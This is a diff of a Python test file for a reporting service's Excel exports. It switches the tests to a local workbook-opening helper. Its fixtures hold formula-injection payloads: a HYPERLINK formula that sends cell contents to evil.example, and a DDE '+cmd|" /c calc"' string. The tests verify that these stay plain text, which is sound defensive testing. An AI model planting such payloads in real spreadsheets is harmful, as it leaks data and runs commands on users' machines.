@@ -10,7 +10,6 @@ import io
 from datetime import date
 
 import pytest
-from openpyxl import load_workbook
 from sqlalchemy import update
 from sqlmodel import select
 
@@ -30,6 +29,7 @@ from service.reporting.reports import load_scope
 from service.reporting.workbook import build_workbook
 
 from .conftest import login
+from .workbooks import open_workbook
 
 PROJECT_NAME = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")\x0b第二行\x01'
 INDICATOR_NAME = '+cmd|" /c calc"!A0\x0c决策统计分析'
@@ -69,7 +69,7 @@ def hostile_year(app):
 
 def _texts(data) -> dict[str, list]:
     """Every cell of every sheet: no formula anywhere, no character a workbook cannot hold."""
-    workbook = load_workbook(io.BytesIO(data if isinstance(data, bytes) else data.getvalue()))
+    workbook = open_workbook(io.BytesIO(data if isinstance(data, bytes) else data.getvalue()))
     cells = {}
     for sheet in workbook.worksheets:
         cells[sheet.title] = []
@@ -116,7 +116,7 @@ def test_formula_looking_and_control_character_text_through_every_export(hostile
     assert indicator_name in cells["2025-001"] and progress in cells["2025-001"]
     _holds(cells["待核查"], f"「{indicator_name}」")
 
-    workbook = load_workbook(io.BytesIO(self_evaluation.getvalue()))
+    workbook = open_workbook(self_evaluation.getvalue())
     cell = next(c for row in workbook["2025-001"].iter_rows() for c in row if c.value == name)
     assert cell.data_type == "s" and cell.quotePrefix  # Excel keeps it text even when the cell is edited
 
@@ -151,7 +151,7 @@ def test_a_cell_that_looks_like_a_formula_is_text(text):
     sheet = book.sheet("s", [10], Page())
     sheet.write(0, 0, text)
     sheet.write(1, 0, -1)  # numbers stay numbers
-    workbook = load_workbook(book.save())
+    workbook = open_workbook(book.save())
     cell, number = workbook.active["A1"], workbook.active["A2"]
     assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)
     assert (number.value, number.data_type) == (-1, "n")
